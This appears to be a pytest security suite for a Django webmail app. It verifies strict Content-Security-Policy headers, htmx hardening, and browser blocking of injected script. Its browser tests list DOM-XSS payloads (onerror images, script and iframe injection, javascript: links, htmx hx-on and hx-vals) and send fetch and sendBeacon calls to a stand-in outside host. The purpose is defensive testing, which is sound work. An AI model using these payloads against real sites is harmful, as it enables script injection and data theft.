"""Our own pages: what their policy forbids, even to a script or markup that somebody got into them (security R12)."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import pytest
from django.test import Client
from django.urls import reverse
from selectolax.lexbor import LexborHTMLParser

from accounts.models import User
from tests.factories import make_account, make_email_from_bytes, make_mailbox, make_user
from tests.security import letters
from tests.security.conftest import OpenWatch
from tests.security.listeners import Listeners
from tests.security.reading import Tour
from tests.security.vectors import Vector
from tests.web.browser.conftest import Site
from tests.web.pages import client_of
from webmail.outbox.writing import drafts
from webmail.store.models import Email, Mailbox

pytestmark = [pytest.mark.req("R12"), pytest.mark.django_db]


@pytest.fixture
def inbox() -> Mailbox:
    return make_mailbox(make_account(make_user()), "Inbox", role="inbox")


@pytest.fixture
def alice(inbox: Mailbox) -> User:
    return inbox.account.user


@pytest.fixture
def email(inbox: Mailbox) -> Email:
    return make_email_from_bytes(inbox, letters.html_only(Vector("plain", "<p>Hello</p>"), number=1))


def pages(email: Email) -> list[str]:
    """A page of each kind."""
    account = email.account
    draft = drafts.create_draft(account)
    return [
        *(
            "/mail/inbox",
            "/mail/drafts",
            "/mail/search?q=hello",
            "/outbox",
            "/settings/",
            "/settings/appearance",
            "/settings/sending",
            "/connect/",
        ),
        reverse("thread", args=[email.thread.public_id]),
        reverse("message", args=[email.public_id]),
        reverse("compose", args=[draft.public_id]),
        reverse("account_settings", args=[account.public_id]),
        "/mail/nowhere",
    ]


def directives(policy: str) -> dict[str, list[str]]:
    return {name: values.split() for name, _, values in (part.strip().partition(" ") for part in policy.split(";"))}


def assert_strict(client: Client, address: str) -> None:
    response = client.get(address)
    found = directives(response.headers["Content-Security-Policy"])
    assert "unsafe" not in response.headers["Content-Security-Policy"]
    assert found["default-src"] == found["base-uri"] == ["'none'"]
    assert found["form-action"] == found["frame-ancestors"] == ["'self'"]
    assert found["require-trusted-types-for"] == ["'script'"]
    assert found["trusted-types"] == ["default"]
    (source,) = found["script-src"]
    nonce = re.fullmatch(r"'nonce-([A-Za-z0-9+/=]{20,})'", source)
    assert nonce, source
    scripts = LexborHTMLParser(response.content.decode()).css("script")
    assert scripts
    data = [script for script in scripts if script.attributes.get("type") == "application/json"]
    assert [script.attributes["id"] for script in data] in ([], ["keymap"])
    for script in (one for one in scripts if one not in data):
        assert script.attributes["nonce"] == nonce[1]
        assert (script.attributes["src"] or "").startswith("/static/")
    assert response.headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert response.headers["X-Content-Type-Options"] == "nosniff"
    assert response.headers["Referrer-Policy"] in {"same-origin", "no-referrer"}


def test_every_page_has_a_policy_with_a_nonce_of_its_own(email: Email, alice: User) -> None:
    client = client_of(alice)
    for address in pages(email):
        assert_strict(client, address)
    assert_strict(Client(), reverse("account_login"))
    first, second = (client.get("/mail/inbox").headers["Content-Security-Policy"] for _ in range(2))
    assert first != second


def test_htmx_evaluates_nothing_and_asks_only_us(email: Email, alice: User) -> None:
    for address in pages(email):
        page = LexborHTMLParser(client_of(alice).get(address).content.decode())
        meta = page.css_first('meta[name="htmx-config"]')
        assert meta is not None, address
        config = json.loads(meta.attributes["content"] or "")
        assert (
            config["allowEval"],
            config["selfRequestsOnly"],
            config["allowScriptTags"],
            config["historyCacheSize"],
        ) == (False, True, False, 0)
        assert not [
            node
            for node in page.css("*")
            if any(name.startswith(("hx-on", "on", "hx-vals", "hx-vars")) for name in node.attributes)
        ]


@pytest.mark.browser
class TestInTheBrowser:
    @pytest.fixture
    def alice(self, transactional_db: None) -> User:
        return make_user()

    @pytest.fixture
    def inbox(self, alice: User) -> Mailbox:
        return make_mailbox(make_account(alice), "Inbox", role="inbox")

    @pytest.fixture
    def tour(self, alice: User, email: Email, site: Site, open_watch: OpenWatch) -> Iterator[Tour]:
        watch = open_watch(site.address, alice)
        found = Tour(watch, watch.new_page())
        found.visit(f"/mail/m/{email.public_id}")
        assert watch.seen == []
        yield found
        found.page.close()

    ATTACKS = (
        "document.body.innerHTML = '<img src=x onerror=PWNED()>'",
        "document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=PWNED()>')",
        "document.body.append(document.createRange().createContextualFragment('<script>PWNED()</script>'))",
        "document.write('<script>PWNED()</script>')",
        "const one = document.createElement('script'); one.textContent = 'PWNED()'; document.body.append(one)",
        "const one = document.createElement('script'); one.src = '/static/main.js'; document.body.append(one)",
        "const one = document.createElement('img'); one.setAttribute('onerror', 'PWNED()'); one.src = 'data:x'; document.body.append(one)",
        "const one = document.createElement('iframe'); one.srcdoc = '<script>parent.PWNED()</script>'; document.body.append(one)",
        "const one = document.createElement('a'); one.href = 'javascript:PWNED()'; document.body.append(one); one.click()",
        "setTimeout('PWNED()', 0)",
        "new Function('PWNED()')()",
        "const one = document.createElement('div'); one.setAttribute('hx-on:click', 'PWNED()'); document.body.append(one); htmx.process(one); one.click()",
        "const one = document.createElement('div'); one.setAttribute('hx-get', '/mail/inbox'); one.setAttribute('hx-vals', 'js:{a: PWNED()}'); document.body.append(one); htmx.process(one); one.click()",
        "document.body.append(...new DOMParser().parseFromString('<script>PWNED()</script><img src=x onerror=PWNED()>', 'text/html').body.children)",
    )

    def test_markup_that_got_into_a_page_runs_nothing(self, tour: Tour) -> None:
        address = tour.page.url
        for attack in self.ATTACKS:
            # Later, and not at once: what Playwright evaluates itself is above any policy.
            tour.page.evaluate("attack => { setTimeout((0, eval)(`() => { ${attack} }`), 0); }", attack)
            tour.page.wait_for_timeout(150)
            tour.page.goto(address, wait_until="load")
            kinds = {seen.kind for seen in tour.watch.seen if not seen.detail.startswith("eval ")}
            assert not kinds & {"script", "dialog", "popup", "request"}, f"{attack}: {tour.watch.seen}"
        # Nearly each of them was refused aloud.
        assert sum(seen.kind == "blocked" for seen in tour.watch.seen) >= len(self.ATTACKS) - 4

    def test_a_request_of_a_page_goes_nowhere_else(self, tour: Tour, listeners: Listeners) -> None:
        tour.page.evaluate(
            """async () => {
                await fetch("https://elsewhere.example/a").catch(() => {});
                navigator.sendBeacon("https://elsewhere.example/b", "x");
                for (const [name, key, rest] of [["img", "src"], ["link", "href", { rel: "stylesheet" }], ["video", "src"], ["embed", "src"]]) {
                    const one = Object.assign(document.createElement(name), rest ?? {});
                    try { one[key] = "https://elsewhere.example/c"; } catch { continue; /* not even the assignment */ }
                    document.body.append(one);
                }
            }"""
        )
        tour.page.wait_for_timeout(300)
        # Chromium tells of requests that the policy then stops: the listeners know better.
        assert sum(seen.kind == "blocked" for seen in tour.watch.seen) >= 4
        assert (listeners.names, listeners.connections) == ([], [])
